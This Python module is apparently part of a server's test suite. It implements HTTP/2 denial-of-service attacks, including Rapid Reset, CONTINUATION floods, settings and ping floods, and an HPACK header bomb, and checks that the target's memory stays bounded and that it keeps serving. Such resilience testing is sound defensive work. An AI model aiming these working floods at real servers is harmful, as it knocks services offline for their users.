"""Attacks by HTTP/2."""

import socket
import struct

from .frames import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    END_STREAM,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    RST_STREAM,
    SETTINGS,
    SETTINGS_INITIAL_WINDOW_SIZE,
    WINDOW_MAX,
    WINDOW_UPDATE,
    Reader,
    bytes_field,
    call,
    data,
    field,
    frame,
    head,
    integer,
    message,
    open_stream,
    range_all,
    settings,
)
from .connections import fill
from .target import IS_SANITIZED, MEGABYTE, Broken, expect_closed, push, wait_for

OPENING = PREFACE + settings()
NUMBERS = range(1, WINDOW_MAX, 2)
GET_NOTHING = bytes_field(1, b"nothing")


class Watched:
    """Checks at its end that memory did not grow by more than so many megabytes meanwhile."""

    def __init__(self, target, megabytes):
        self._target = target
        self._megabytes = megabytes + (512 if IS_SANITIZED else 0)

    def __enter__(self):
        self._target.reset_memory_peak()
        self._before = self._target.memory()

    def __exit__(self, kind, *_):
        grown = (self._target.memory_peak() - self._before) / MEGABYTE
        if kind is None and grown > self._megabytes:
            raise Broken(f"memory has grown by {grown:.0f} MB")


def opened(target, opening=OPENING, **options):
    """Settings are acknowledged, so that the server's windows count."""
    client = target.connect(**options)
    client.sendall(opening)
    size = int.from_bytes(client.recv(9, socket.MSG_WAITALL)[:3], "big")
    client.recv(size, socket.MSG_WAITALL)
    client.sendall(frame(SETTINGS, ACK, 0))
    return client


def expect_goaway(client, what):
    """The connection is ended with a reason, or just ended when the client leaves no way to say."""
    client.settimeout(10)
    try:
        Reader(client).until(lambda kind, *_: kind == GOAWAY)
    except (socket.timeout, OSError):
        pass
    expect_closed(client, what)


# ---- Floods. None is ever answered with memory; the ones that HTTP/2 names end the connection.


def flood(target, piece, megabytes=64, opening=OPENING, receive_buffer=4096):
    """Sends without reading: what the server has to say to it must not pile up."""
    with Watched(target, 16):
        client = opened(target, opening, receive_buffer=receive_buffer)
        push(client, piece, megabytes * MEGABYTE)
        target.check_serves()
    return client


def ping_flood(target, _):
    """Pings that all want an answer."""
    expect_closed(flood(target, frame(PING, 0, 0, b"12345678") * 1000), "pings")


def settings_flood(target, _):
    """Settings that all want an acknowledgement (CVE-2019-9515)."""
    flood(target, settings((4, 100_000)) * 1000).close()
    flood(target, settings() * 1000).close()


def many_settings(target, _):
    """Frames with thousands of settings."""
    flood(target, settings(*[(4, n) for n in range(2000)]) * 10).close()


def empty_data_flood(target, _):
    """Frames of no bytes that end nothing (CVE-2019-9518)."""
    piece = frame(DATA, 0, 1) * 1000
    flood(target, piece, opening=OPENING + open_stream(1)).close()


def window_flood(target, _):
    """Windows opened byte by byte, and beyond what there is."""
    flood(target, frame(WINDOW_UPDATE, 0, 0, b"\0\0\0\1") * 1000).close()
    piece = frame(WINDOW_UPDATE, 0, 0, b"\x7f\xff\xff\xff") * 1000
    expect_closed(flood(target, piece), "windows beyond the limit")


def priority_flood(target, _):
    """Priorities of streams that are not there (CVE-2019-9513)."""
    piece = b"".join(
        frame(PRIORITY, 0, n, struct.pack(">IB", max(n - 2, 0), 16)) for n in range(1, 4001, 2)
    )
    flood(target, piece).close()


def unknown_frames(target, _):
    """Frames that nobody has heard of."""
    flood(target, frame(0x42, 0xFF, 0, b"x" * 16_000) * 10).close()


def rapid_reset(target, _):
    """Streams opened and reset at once, by the hundred thousand (CVE-2023-44487)."""
    with Watched(target, 48):
        client = opened(target)
        cancel = struct.pack(">I", 8)
        for first in range(0, 100_000, 1000):
            piece = b"".join(
                call(n, range_all()) + frame(RST_STREAM, 0, n, cancel)
                for n in NUMBERS[first : first + 1000]
            )
            try:
                client.sendall(piece)
            except OSError:
                break
        target.check_serves()
    client.close()


def provoked_resets(target, _):
    """Streams that the server must reset itself (CVE-2025-8671)."""
    with Watched(target, 48):
        client = opened(target, receive_buffer=4096)
        client.settimeout(0.5)
        for first in range(0, 100_000, 1000):
            piece = b"".join(
                open_stream(n) + frame(WINDOW_UPDATE, 0, n, bytes(4))
                for n in NUMBERS[first : first + 1000]
            )
            try:
                client.sendall(piece)
            except OSError:
                break
        target.check_serves()
    client.close()


# ---- Heads


def continuation_flood(target, _):
    """A header block that never ends (CVE-2024-27316), with and without bytes in it."""
    for payload in (b"", field(b"x", b"y"), field(b"x", b"y" * 8000)):
        with Watched(target, 16):
            client = opened(target)
            client.sendall(frame(HEADERS, 0, 1, head()))
            sent = push(client, frame(CONTINUATION, 0, 1, payload) * 100, 256 * MEGABYTE)
            if sent > 64 * MEGABYTE:
                raise Broken(f"{sent >> 20} MB of one header block were read")
            expect_closed(client, "a header block without an end")
            target.check_serves()


def unfinished_head(target, _):
    """A header block that stops in the middle."""
    for part in (frame(HEADERS, 0, 1, head()), frame(HEADERS, END_HEADERS, 1, head())[:40]):
        client = opened(target)
        client.sendall(part)
        expect_closed(client, "a frame or a header block that stops in the middle", 8)


def head_bomb(target, _):
    """One long field in the table, named ten thousand times (CVE-2016-6581)."""
    block = head() + b"\x40" + integer(1, 7, 0) + b"x" + integer(3900, 7, 0) + b"y" * 3900
    with Watched(target, 24):
        client = opened(target)
        client.sendall(frame(HEADERS, END_HEADERS | END_STREAM, 1, block))
        for n in NUMBERS[1:2000]:
            try:
                client.sendall(open_stream(n, head() + b"\xbe" * 15_000, True))
            except OSError:
                break
        target.check_serves()
    client.close()


def large_heads(target, _):
    """Long values of all that is repeated in an answer: it still comes."""
    long = b"x" * 15_000
    for block in (
        head(path=b"/etcdserverpb.KV/" + long),
        head(path=b"/" + long + b"/Range"),
        head(path=b"/" + b"\xff" * 15_000 + b"/Range"),
        head(content_type=b"application/grpc+" + long),
        head(content_type=b"application/grpc;" + b"\xff" * 15_000),
        head(content_type=long),
        head(more=field(b"grpc-timeout", long)),
        head(more=field(b"grpc-encoding", long)),
        head(more=field(b"token", long)),
    ):
        expect_stream_ends(target, block)
    # Over several frames, with up to 60 kB in one field.
    for path in (b"/" + b"x" * 60_000 + b"/Range", b"/" + b"\xff" * 60_000 + b"/Range"):
        expect_stream_ends(target, head(path=path))
    expect_stream_ends(target, head(content_type=b"application/grpc+" + b"x" * 60_000))
    expect_stream_ends(target, head(content_type=b"x" * 60_000))


def expect_stream_ends(target, block):
    pieces = [block[at : at + 16_384] for at in range(0, len(block), 16_384)]
    last = len(pieces) - 1
    request = frame(HEADERS, END_HEADERS if last == 0 else 0, 1, pieces[0])
    for i, piece in enumerate(pieces[1:], 1):
        request += frame(CONTINUATION, END_HEADERS if i == last else 0, 1, piece)
    with opened(target, OPENING + request + data(1, message(GET_NOTHING, flag=1))) as client:
        client.settimeout(3)
        try:
            found = Reader(client).until(
                lambda kind, flags, *_: kind in (RST_STREAM, GOAWAY)
                or (kind in (HEADERS, DATA) and flags & END_STREAM)
            )
        except socket.timeout:
            raise Broken(f"no answer to a head of {len(block)} bytes: {block[60:120]}") from None
        if found is None:
            raise Broken(f"disconnected for a head of {len(block)} bytes: {block[60:120]}")


def many_fields(target, _):
    """A list of fields above the limit resets the stream, and only it."""
    stored = b"\x40" + integer(1, 7, 0) + b"x" + integer(3900, 7, 0) + b"y" * 3900
    with Watched(target, 24), opened(target) as client:
        opening = frame(HEADERS, END_HEADERS, 1, head() + stored)
        client.sendall(opening + data(1, message(GET_NOTHING)))
        client.sendall(open_stream(3, head() + b"\xbe" * 300))
        client.sendall(call(5, GET_NOTHING))
        reader, ends = Reader(client), {}
        while set(ends) != {1, 3, 5}:
            found = reader.next()
            if found is None:
                raise Broken(f"disconnected after {ends}")
            kind, flags, number, payload = found
            if kind == RST_STREAM:
                ends.setdefault(number, f"reset {payload.hex()}")
            elif flags & END_STREAM and kind in (DATA, HEADERS):
                ends.setdefault(number, "answered")
    if ends != {1: "answered", 3: "reset 00000002", 5: "answered"}:
        raise Broken(f"the streams end so: {ends}")


# ---- Bodies and answers


def streams_without_end(target, _):
    """Requests by the ten thousand whose bodies never come."""
    with Watched(target, 200):
        client = opened(target, receive_buffer=65536)
        client.settimeout(2)
        try:
            for first in range(0, 50_000, 1000):
                client.sendall(b"".join(open_stream(n) for n in NUMBERS[first : first + 1000]))
        except OSError:
            pass
        target.check_serves()
    client.settimeout(5)
    found = Reader(client).until(lambda kind, *_: kind in (RST_STREAM, GOAWAY))
    if found is None:
        raise Broken("streams without a body are not reset")
    client.close()


def unfinished_messages(target, _):
    """Messages of 2 MB of which only half arrives."""
    body = b"\0" + struct.pack(">I", 2_000_000) + b"x" * 1_000_000  # all that the window takes
    frames = [body[at : at + 16_384] for at in range(0, len(body), 16_384)]
    with Watched(target, 400):
        client = opened(target)
        client.settimeout(0.5)
        try:
            for n in NUMBERS[:1000]:
                client.sendall(open_stream(n) + b"".join(frame(DATA, 0, n, f) for f in frames))
        except OSError:
            pass
        target.check_serves()
    client.close()


def large_messages(target, _):
    """Messages above the limit are refused before they are read."""
    for size in (2_097_153, 1 << 30, 0xFFFFFFFF):
        with Watched(target, 24), opened(target) as client:
            begin = b"\0" + struct.pack(">I", size) + b"x" * 9
            client.sendall(open_stream(1) + data(1, begin, False))
            reader = Reader(client)
            found = reader.until(lambda kind, *_: kind == HEADERS)
            fields = reader.fields(found[3]) if found else {}
            if fields.get("grpc-status") != "8" or "larger than max" not in fields["grpc-message"]:
                raise Broken(f"a message of {size} bytes is answered with {fields}")


# All answers under way and, of sixteen reads at a time, the rows: 16 MB each; and what the heap
# has not given back yet.
READS_MEGABYTES = 2 * (200 + 16 * 16)


def not_reading(target, _):
    """Long answers asked for again and again by clients that read nothing at all."""
    fill(target, b"big/", 16)
    with Watched(target, READS_MEGABYTES):
        clients = []
        for _ in range(4):
            client = opened(target, receive_buffer=4096)
            client.settimeout(0.5)
            try:
                for first in range(0, 3000, 100):
                    client.sendall(
                        b"".join(call(n, range_all()) for n in NUMBERS[first : first + 100])
                    )
            except OSError:
                pass
            clients.append(client)
        target.check_serves()
    for client in clients:
        client.close()


def zero_windows(target, _):
    """The same by clients that read, but let no stream say anything."""
    fill(target, b"big/", 16)
    with Watched(target, READS_MEGABYTES):
        clients = []
        for _ in range(4):
            client = opened(target, PREFACE + settings((SETTINGS_INITIAL_WINDOW_SIZE, 0)))
            client.settimeout(0.5)
            try:
                for first in range(0, 1000, 100):
                    client.sendall(
                        b"".join(call(n, range_all()) for n in NUMBERS[first : first + 100])
                    )
                    client.setblocking(False)
                    while client.recv(1 << 16):
                        pass
            except BlockingIOError:
                pass
            except OSError:
                pass
            client.settimeout(0.5)
            clients.append(client)
        target.check_serves()
        # Sooner or later they are given up, and others may read again.
        wait_for("a long range is answered again", lambda: is_range_answered(target), 30)
    for client in clients:
        client.close()


def is_range_answered(target):
    try:
        return target.post("/v3/kv/range", {"key": "YmlnLw==", "range_end": "YmlnMA=="})[0] == 200
    except socket.timeout:
        return False


def slow_reader(target, _):
    """One who reads slowly, but reads, is not cut off."""
    fill(target, b"big/", 4)
    window = 65_535
    with opened(target) as client:
        client.sendall(call(1, range_all()))
        reader, taken, got = Reader(client), 0, 0
        while True:
            found = reader.next()
            if found is None:
                raise Broken(f"cut off after {got} bytes")
            kind, flags, _, payload = found
            if kind == RST_STREAM:
                raise Broken(f"reset after {got} bytes")
            if flags & END_STREAM and kind in (DATA, HEADERS):
                break
            if kind == DATA:
                got += len(payload)
                taken += len(payload)
            if taken >= window:
                more = struct.pack(">I", taken)
                client.sendall(frame(WINDOW_UPDATE, 0, 0, more) + frame(WINDOW_UPDATE, 0, 1, more))
                taken = 0
    if got < 4 * MEGABYTE:
        raise Broken(f"only {got} bytes came")


ATTACKS = [
    ping_flood,
    settings_flood,
    many_settings,
    empty_data_flood,
    window_flood,
    priority_flood,
    unknown_frames,
    rapid_reset,
    provoked_resets,
    continuation_flood,
    unfinished_head,
    head_bomb,
    large_heads,
    many_fields,
    streams_without_end,
    unfinished_messages,
    large_messages,
    not_reading,
    zero_windows,
    slow_reader,
]
